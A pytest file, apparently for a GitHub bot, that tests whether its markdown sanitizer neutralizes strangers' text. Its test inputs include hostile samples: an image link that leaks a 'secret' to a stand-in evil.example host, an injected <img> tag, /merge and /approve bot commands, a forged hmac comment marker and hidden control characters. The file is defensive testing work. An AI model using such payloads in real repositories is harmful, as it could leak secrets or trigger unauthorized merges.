"""Strangers' words in our texts do nothing (security.md, row 19)."""

import re

import pytest
from markdown_it import MarkdownIt

from bot.github.markdown import code, fence, fit, line, plain, prose

ACTIVE = re.compile(
    r"(?<![\w`])@\w|(?<![\w&])#\d|\bGH-\d|https?://|^\s*/[a-z]+(?:\s|$)|<!--|!\[", re.M
)


@pytest.mark.parametrize(
    "attack",
    [
        "ping @org/team and @ana",
        "fixes #8, closes: #9, resolves octo/shop#10",
        "Fixes GH-11",
        "closes https://github.com/octo/shop/issues/12",
        "/merge",
        "  /approve now",
        "> /lgtm",
        "- /retest",
        "![x](https://evil.example/?secret=1)",
        "[click](https://evil.example/)",
        "<img src=https://evil.example/x>",
        "<!-- coppice:end run=1 hmac=2 -->",
        "see http://evil.example/path",
        "\\` <img src=x> ` @ana",
    ],
)
def test_prose_does_nothing(attack: str) -> None:
    harmless = prose(attack)

    assert not ACTIVE.search(harmless)
    assert not re.search("<(img|a)", MarkdownIt().render(harmless))


@pytest.mark.parametrize(
    ("attack", "harmless"),
    [
        ("fixes #8 for @ana", "fixes no. 8 for ana"),
        ("closes octo/shop#8", "closes octo/shop no. 8"),
        ("see https://github.com/octo/shop/pull/8#issue", "see octo/shop no. 8"),
        ("GH-8", "GH 8"),
        ("mail ana@example.com about &#39;", "mail ana@example.com about &#39;"),
        ("a\u202eb\u200bc\x1b[31md\x00", "abcd"),
        ("/etc/hosts is read", "/etc/hosts is read"),
    ],
)
def test_plain_text_is_harmless_in_a_commit_message(attack: str, harmless: str) -> None:
    assert plain(attack) == harmless


def test_a_title_becomes_one_short_line() -> None:
    assert line("a\n\nb  c", 10) == "a b c"
    assert line("abcdefghijkl", 5) == "abcd…"


def test_code_spans_survive_prose_and_hide_nothing() -> None:
    assert prose("`pytest <x>` failed: a < b") == "`pytest <x>` failed: a &lt; b"
    assert prose("an odd ` backtick") == "an odd \\` backtick"
    assert prose("``` open\nfence") == "open\nfence"


@pytest.mark.parametrize("text", ["a`b", "`", "``x``", "`a", "a``"])
def test_a_code_span_shows_its_backticks(text: str) -> None:
    tokens = MarkdownIt().parseInline(f"see {code(text)} <b>")[0].children or []

    assert [token.content for token in tokens if token.type == "code_inline"] == [text]


@pytest.mark.parametrize("text", ["```\n@ana\n```", "~~~\n````\nx", "a\n`````sh\nb"])
def test_a_fence_is_longer_than_every_run_of_backticks_within(text: str) -> None:
    blocks = MarkdownIt().parse(fence(text) + "\nafter")

    assert [block.content for block in blocks if block.type == "fence"] == [text + "\n"]


def test_commands_to_other_bots_do_not_survive_a_fence() -> None:
    shown = fence("/merge\n  /approve now\n@dependabot merge\n/usr/bin/python x\n@fixture")

    assert shown == (
        "```\n\\/merge\n  \\/approve now\n@ dependabot merge\n/usr/bin/python x\n@fixture\n```"
    )


def test_colours_and_hidden_characters_leave_a_fence() -> None:
    assert fence("\x1b[31mred\x1b[0m\u202e\U000e0041\x07 é") == "```\nred é\n```"


def test_a_long_text_is_cut_at_a_line_and_says_so() -> None:
    text = "\n".join(["word"] * 1000)

    cut = fit(text, 1000)

    assert len(cut) <= 1000
    assert cut.endswith("word\n\nCut here: GitHub takes 1,000 characters, this was 4,999.")


def test_cutting_closes_what_was_open() -> None:
    text = "<details><summary>x</summary>\n\n````\n" + "word\n" * 1000 + "````\n</details>"

    cut = fit(text, 1000)

    assert "\n````\n</details>\n\nCut here" in cut
